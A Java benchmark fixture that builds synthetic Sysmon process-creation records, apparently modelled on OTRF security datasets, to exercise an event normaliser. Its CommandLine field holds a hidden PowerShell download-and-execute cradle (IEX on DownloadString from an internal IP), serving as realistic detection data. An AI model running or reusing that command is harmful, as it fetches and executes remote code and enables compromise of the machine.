package io.procwatch.bench.micro;

import io.procwatch.normalize.EventNormalizer;
import io.procwatch.normalize.ProcessEvent;
import io.procwatch.normalize.RejectedRecordException;
import io.procwatch.read.Origin;
import io.procwatch.read.RawRecord;

import java.util.LinkedHashMap;
import java.util.Map;

/** A Sysmon process creation as OTRF/nxlog JSON carries it (field names and typical sizes), for the field benchmarks. */
final class MicroEvents {

    private MicroEvents() {
    }

    static Map<String, String> sysmonFields(int i) {
        Map<String, String> f = new LinkedHashMap<>();
        f.put("EventID", "1");
        f.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        f.put("SourceName", "Microsoft-Windows-Sysmon");
        f.put("Hostname", "WORKSTATION5.theshire.local");
        f.put("@timestamp", "2020-09-21T18:4" + (i % 10) + ":02.123Z");
        f.put("UtcTime", "2020-09-21 18:4" + (i % 10) + ":02.118");
        f.put("ProcessGuid", "{39e4a257-f22a-5f68-6b02-000000000600}");
        f.put("ProcessId", Integer.toString(4000 + i));
        f.put("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        f.put("FileVersion", "10.0.18362.1 (WinBuild.160101.0800)");
        f.put("Description", "Windows PowerShell");
        f.put("Product", "Microsoft® Windows® Operating System");
        f.put("Company", "Microsoft Corporation");
        f.put("OriginalFileName", "PowerShell.EXE");
        f.put("CommandLine", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -noni -nop -w hidden -c "
                + "$x=New-Object Net.WebClient;IEX $x.DownloadString('http://10.0.10.105:8080/a" + i + "')");
        f.put("CurrentDirectory", "C:\\Users\\pgustavo\\");
        f.put("User", "THESHIRE\\pgustavo");
        f.put("LogonGuid", "{39e4a257-f19b-5f68-ddc4-0a0000000000}");
        f.put("LogonId", "0xac4dd");
        f.put("IntegrityLevel", "Medium");
        f.put("Hashes", "SHA1=1B3B40FBC889FD4C645CC12C85D0805AC36BA254,MD5=04029E121A0CFA5991749937DD22A1D9,"
                + "SHA256=BA4038FD20E474C047BE8AAD5BFACDB1BFC1DDBE12F803F473B7918D8D819436");
        f.put("ParentProcessGuid", "{39e4a257-f19c-5f68-4b00-000000000600}");
        f.put("ParentProcessId", "6404");
        f.put("ParentImage", "C:\\Windows\\explorer.exe");
        f.put("ParentCommandLine", "C:\\Windows\\Explorer.EXE");
        f.put("Message", "Process Create:\r\nRuleName: -\r\nUtcTime: 2020-09-21 18:42:02.118\r\n" + "x".repeat(1200));
        return f;
    }

    static ProcessEvent sysmon(int i) {
        try {
            return new EventNormalizer().normalize(new RawRecord(new Origin("micro.json", i), sysmonFields(i)));
        } catch (RejectedRecordException e) {
            throw new IllegalStateException(e);
        }
    }
}
